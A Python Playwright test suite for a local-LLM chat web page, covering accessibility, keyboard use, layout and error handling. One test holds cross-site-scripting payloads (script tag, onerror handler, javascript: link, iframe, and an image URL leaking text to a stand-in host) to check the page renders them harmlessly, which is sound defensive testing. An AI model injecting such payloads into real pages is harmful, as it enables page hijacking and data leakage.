"""The chat page with a stand-in for the package: every view, every failure, keyboard, screen reader, phone.

Judges: axe-core, and the browser itself (focus, layout, requests, Content-Security-Policy)."""

import time
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parents[2]
AXE = ROOT / "web" / "node_modules" / "axe-core" / "axe.min.js"
RICH = """## Heading

Text with `code`, [a link](https://example.org).

1. one
2. two

| part | of |
|---|---|
| a | b |

```python
print("a line that is much longer than a phone is wide, and so scrolls within its own box")
```

> Quote."""
STORED = [
    {"name": "built-in.gguf", "url": "https://here/fanlight/built-in.gguf?v=1", "complete": True, "storedBytes": 15_199_648},
    {"name": "Llama-3.2-1B-Instruct-Q4_0.gguf", "url": "https://x/l.gguf", "complete": False, "storedBytes": 240_000_000},
]
MODELS = [{**model, "sizeBytes": 770_000_000, "savedAt": "2026-01-01"} for model in STORED]


def until(page: Any, condition: str, seconds: float = 10) -> None:
    """Playwright's own wait_for_function evaluates text in the page, which the Content-Security-Policy forbids."""
    end = time.monotonic() + seconds
    while not page.evaluate(condition):
        assert time.monotonic() < end, f"never true: {condition}"
        page.wait_for_timeout(50)


def load(page: Any) -> None:
    page.get_by_role("button", name="Start the built-in model").click()
    page.get_by_role("textbox", name="Message").wait_for()


def settings(page: Any) -> None:
    page.get_by_role("button", name="Settings").click()
    sampling = page.locator("summary", has_text="Sampling")
    sampling.wait_for()
    if not page.locator("details[open] > summary", has_text="Sampling").count():
        sampling.click()


def ask(page: Any, text: str) -> None:
    """As soon as there is a model, until the question is on its way."""
    page.get_by_role("textbox", name="Message").fill(text)
    page.locator(".composer button[type=submit]:enabled").wait_for()
    page.keyboard.press("Enter")
    until(page, "document.querySelector('.composer textarea').value === ''")


def stands(locator: Any, texts: list[str]) -> None:
    """These texts and no others, sooner or later: what a page shows may come after what was pressed."""
    expect(locator).to_have_text(texts, timeout=10_000)


def finished(page: Any) -> str:
    """The last answer, when it is whole."""
    page.locator("article.answer:last-of-type:not([aria-busy]) .stats").wait_for()
    return page.locator("article.answer .markdown").last.inner_text()


def axe_findings(page: Any) -> list[str]:
    if not page.evaluate("'axe' in globalThis"):
        page.add_script_tag(path=AXE)
    found = page.evaluate("axe.run()")["violations"]
    return [f"{rule['id']}: {node['target']} {node['failureSummary']}" for rule in found for node in rule["nodes"]]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_in_any_view(open_page, scheme):
    error = ["DoesNotFit", "a context of 8192 needs 9000 MiB", {"hint": "a context of 2048"}]
    plan = {"models": MODELS, "answer": RICH, "loadError": error}
    page = open_page(plan, color_scheme=scheme, bypass_csp=True, reduced_motion="reduce")
    page.get_by_text("2 models").wait_for()
    findings = axe_findings(page)
    page.get_by_role("button", name="Start the built-in model").click()
    page.get_by_role("alert").get_by_role("heading").wait_for()
    findings += axe_findings(page)
    page.evaluate("plan.pace = 200")
    page.get_by_role("button", name="Load with a context").click()
    page.get_by_role("progressbar").wait_for()
    findings += axe_findings(page)
    page.evaluate("plan.pace = 1")
    page.locator(".welcome").wait_for()
    findings += axe_findings(page)
    ask(page, "What is a fanlight?")
    finished(page)
    findings += axe_findings(page)
    settings(page)
    findings += axe_findings(page)
    assert not findings, "\n".join(findings)


@pytest.mark.parametrize("width", [320, 360])
def test_a_phone_never_scrolls_sideways(open_page, width):
    page = open_page({"models": MODELS, "answer": RICH}, viewport={"width": width, "height": 700})
    page.get_by_text("2 models").wait_for()
    overflow = "document.documentElement.scrollWidth - innerWidth"
    assert page.evaluate(overflow) <= 0
    load(page)
    assert page.evaluate(overflow) <= 0
    ask(page, "averyveryverylongwordwithoutanyplacetobreakitinto" * 3)
    finished(page)
    assert page.evaluate(overflow) <= 0
    settings(page)
    assert page.evaluate("(d => d.scrollWidth - d.clientWidth)(document.querySelector('.sheet'))") <= 0


FOCUSED = """() => {
  const element = document.activeElement;
  const shown = element.type === "file" ? element.nextElementSibling : element;
  const ring = [shown, shown.closest(".composer")].some((e) => e && getComputedStyle(e).outlineStyle !== "none");
  return [element.getAttribute("aria-label") ?? element.labels?.[0]?.textContent ?? element.textContent, ring];
}"""


def test_by_keyboard_alone(open_page):
    page = open_page({"models": MODELS[:1], "pace": 5, "answer": "word " * 400})
    page.get_by_text("1 model,").wait_for()
    page.get_by_role("button", name="Show all").wait_for()
    stops = []
    while not stops or stops[-1][0] != "Language":
        page.keyboard.press("Tab")
        stops.append(page.evaluate(FOCUSED))
        assert len(stops) < 30, stops
    names = [name for name, _ in stops]
    assert names[0].startswith("Start ") and names[1:4] == [
        "Start the built-in model",
        "Load Built-in model",
        "Delete Built-in model",
    ]
    assert names[4:8] == ["Search models", "Search Hugging Face", "Kind", "Order"]
    assert all(name.startswith("Load ") for name in names[8:-7]) and names[-7].startswith("Show all ")
    assert names[-6:-3] == ["Choose a GGUF file", "Or load one from the web", "Load"]
    assert names[-3:] == ["Options", "Measure this device's speed", "Language"]
    assert all(ring for _, ring in stops)
    page.evaluate("document.querySelector('h1').focus()")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.locator(".welcome").wait_for()
    page.keyboard.type("one")  # the message field has the focus
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    page.keyboard.press("Enter")
    page.get_by_text("word word").wait_for()
    page.keyboard.press("Escape")
    assert len(finished(page).split()) < 400
    assert page.locator("article.answer .note").inner_text() == "Stopped."
    assert page.evaluate("calls.bodies[0].messages") == [{"role": "user", "content": "one\ntwo"}]
    assert page.evaluate(FOCUSED) == ["Message", True]


def test_a_screen_reader_hears_the_finished_answer_once(open_page):
    page = open_page({"answer": "It is **light** over a door."})
    load(page)
    page.evaluate("""() => {
      globalThis.heard = [];
      const region = document.querySelector("[aria-live=polite]");
      new MutationObserver(() => heard.push(region.textContent)).observe(region, { childList: true, characterData: true });
    }""")
    ask(page, "What is it?")
    finished(page)
    until(page, "heard.length > 0")
    assert page.evaluate("heard") == ["Answer: It is light over a door."]
    assert page.get_by_role("log").get_attribute("aria-live") == "off"


def test_turns_and_settings_reach_the_engine(open_page):
    page = open_page()
    load(page)
    settings(page)
    page.get_by_role("textbox", name="System prompt").fill("Be brief.")
    page.get_by_role("spinbutton", name="Temperature").fill("1.3")
    page.get_by_role("spinbutton", name="Longest answer").fill("40")
    page.keyboard.press("Escape")
    ask(page, "First")
    first = finished(page)
    ask(page, "Second")
    until(page, "calls.bodies.length === 2")
    body = page.evaluate("calls.bodies[1]")
    assert (body["temperature"], body["max_tokens"], body["stream"]) == (1.3, 40, True)
    assert [message["role"] for message in body["messages"]] == ["system", "user", "assistant", "user"]
    assert body["messages"][2]["content"].replace("*", "") == first
    finished(page)
    page.get_by_role("button", name="New chat").click()
    ask(page, "Third")
    until(page, "calls.bodies.length === 3")
    assert [m["content"] for m in page.evaluate("calls.bodies[2].messages")] == ["Be brief.", "Third"]


def test_a_model_can_be_stopped_and_a_new_chat_begun_meanwhile(open_page):
    page = open_page({"pace": 20, "answer": "word " * 400})
    load(page)
    ask(page, "Go on")
    page.get_by_text("word word").wait_for()
    page.get_by_role("button", name="New chat").click()
    page.locator(".welcome").wait_for()
    page.wait_for_timeout(100)
    assert page.locator("article").count() == 0
    page.evaluate("plan.answer = 'Fresh.'")
    ask(page, "Again")
    assert finished(page) == "Fresh."
    assert page.evaluate("calls.bodies[1].messages") == [{"role": "user", "content": "Again"}]


HOSTILE = """<script>document.title = "owned"</script> <img src=x onerror="document.title = 'owned'">

![pixel](http://leak.invalid/p.png?what-was-written) [press](javascript:document.title='owned') <b onclick="x">bold</b>

<iframe src="http://leak.invalid/"></iframe>"""


def test_what_a_model_writes_stays_text(open_page):
    page = open_page({"answer": HOSTILE})
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    load(page)
    ask(page, "Attack")
    text = finished(page)
    assert "<script>" in text and "onerror" in text
    assert page.locator("article.answer :is(script, img, iframe, b, [onclick])").count() == 0
    hrefs = page.locator("article.answer a").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
    assert hrefs == ["http://leak.invalid/p.png?what-was-written", None] or hrefs == [
        "http://leak.invalid/p.png?what-was-written"
    ]
    assert not [url for url in asked if "leak" in url]
    assert page.title() != "owned"


def test_thoughts_are_folded_away_and_not_sent_back(open_page):
    page = open_page({"reasoning": "Let me see. It is four.", "answer": "Four."})
    load(page)
    ask(page, "2 + 2?")
    assert finished(page) == "Four."
    assert page.locator("details.thought").get_attribute("open") is None
    ask(page, "Sure?")
    until(page, "calls.bodies.length === 2")
    assert page.evaluate("calls.bodies[1].messages[1].content") == "Four."


LOAD_FAILURES = {
    "UnsupportedModel": (["architecture 'mamba' is not known", {"hint": "llama, qwen2 or qwen3"}], "not supported", "'mamba'"),
    "FormatError": (["no GGUF magic", {"where": "notes.txt"}], "not a model file", "notes.txt"),
    "MissingWeight": (["no tensor 'output.weight'", {}], "incomplete", "output.weight"),
    "DeviceError": (["Out of memory: 900 MB asked", {}], "ran out of memory", "a smaller model"),
    "SourceError": (["the server answered 404", {"where": "https://x/y.gguf"}], "could not be read", "404"),
    "KernelFailed": (["kernel gemv is wrong on this adapter", {}], "driver", "gemv"),
}


def test_a_visitor_is_told_no_commands_and_no_exceptions(open_page):
    page = open_page({"loadError": ["MissingWeight", "there is no tensor 'a.b'", {"hint": "fanlight show tensors MODEL"}]})
    page.get_by_role("button", name="Start the built-in model").click()
    alert = page.get_by_role("alert").filter(has=page.get_by_role("heading"))
    assert "no tensor 'a.b'" in alert.inner_text() and "fanlight show" not in alert.inner_text()
    page.evaluate("plan.loadError = ['FanlightError', \"KeyError: 'kv'\", { where: 'File \"engine.py\", line 7' }]")
    alert.get_by_role("button", name="Close this message").click()
    page.get_by_role("button", name="Start the built-in model").click()
    assert "a fault of Fanlight" in alert.inner_text() and "KeyError" not in alert.inner_text()
    alert.get_by_text("Technical details").click()
    assert "KeyError: 'kv'" in alert.inner_text() and "engine.py" in alert.inner_text()


@pytest.mark.parametrize("name", LOAD_FAILURES)
def test_a_failed_load_is_said_in_words(open_page, name):
    (message, details), title, detail = LOAD_FAILURES[name]
    page = open_page({"loadError": [name, message, details]})
    page.get_by_role("button", name="Start the built-in model").click()
    alert = page.get_by_role("alert").filter(has=page.get_by_role("heading"))
    assert title in alert.get_by_role("heading").inner_text()
    assert detail in alert.inner_text()
    alert.get_by_role("button", name="Close this message").click()
    alert.wait_for(state="detached")
    load(page)


def test_what_does_not_fit_is_offered_smaller(open_page):
    page = open_page({"loadError": ["DoesNotFit", "a context of 8192 needs 9 GiB", {"hint": "a context of 2048"}]})
    page.locator("summary", has_text="Options").click()
    page.get_by_role("spinbutton", name="Context length").fill("8192")
    page.get_by_role("button", name="Start the built-in model").click()
    page.get_by_role("button", name="Load with a context of 2,048 tokens").click()
    page.locator(".welcome").wait_for()
    assert [made["contextLength"] for made in page.evaluate("calls.loads")] == [8192, 2048]


def test_a_lost_device_is_loaded_again_and_the_chat_goes_on(open_page):
    page = open_page()
    load(page)
    ask(page, "First")
    finished(page)
    page.evaluate("plan.chatError = ['DeviceLost', 'The graphics adapter went away: reset.', {}]")
    ask(page, "Second")
    alert = page.get_by_role("alert").filter(has=page.get_by_role("heading"))
    assert "stopped answering" in alert.inner_text()
    alert.get_by_role("button", name="Load the model again").click()
    page.get_by_role("textbox", name="Message").wait_for()
    page.get_by_role("log").get_by_text("First", exact=True).wait_for()
    ask(page, "Third")
    until(page, "calls.bodies.length === 3")
    assert [m["content"] for m in page.evaluate("calls.bodies[2].messages")][::2] == ["First", "Third"]


def test_a_full_context_says_what_to_do(open_page):
    page = open_page({"chatError": ["ContextOverflow", "the prompt has 5000 tokens", {}]})
    load(page)
    ask(page, "Long")
    alert = page.get_by_role("alert").filter(has=page.get_by_role("heading"))
    assert "longer than the model's context" in alert.inner_text()
    alert.get_by_role("button", name="New chat").click()
    page.locator(".welcome").wait_for()


def test_loading_shows_bytes_and_can_be_cancelled(open_page):
    page = open_page({"pace": 400})
    page.get_by_role("textbox", name="Or load one").fill("example.org/models/m.gguf")
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Loading m.gguf").wait_for()
    page.get_by_text("of 770 MB").wait_for()
    until(page, "/MB\\/s/.test(document.querySelector('.amount').textContent)")
    assert 0 < page.get_by_role("progressbar").evaluate("(bar) => bar.value") < 1
    page.get_by_role("button", name="Cancel").click()
    page.get_by_text("Loading was cancelled").wait_for()
    assert page.evaluate("calls.loads[0].model") == "https://example.org/models/m.gguf"


def test_stored_models_are_listed_and_deleted(open_page):
    page = open_page({"models": MODELS})
    page.get_by_text("2 models, 255 MB in all").wait_for()
    page.on("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete Llama").click()
    page.get_by_text("1 model, 15.2 MB in all").wait_for()
    page.get_by_role("button", name="Load Built-in model").click()
    page.locator(".welcome").wait_for()
    assert page.evaluate("calls.loads[0].model") == {"opfs": MODELS[0]["url"]}


def test_the_memory_plan_is_shown(open_page):
    page = open_page()
    load(page)
    page.get_by_role("button", name="Settings").click()
    rows = page.locator(".sheet .memory dl > div")
    assert (rows.first.inner_text(), rows.last.inner_text()) == ("Weights\n770 MB", "Total\n929 MB")
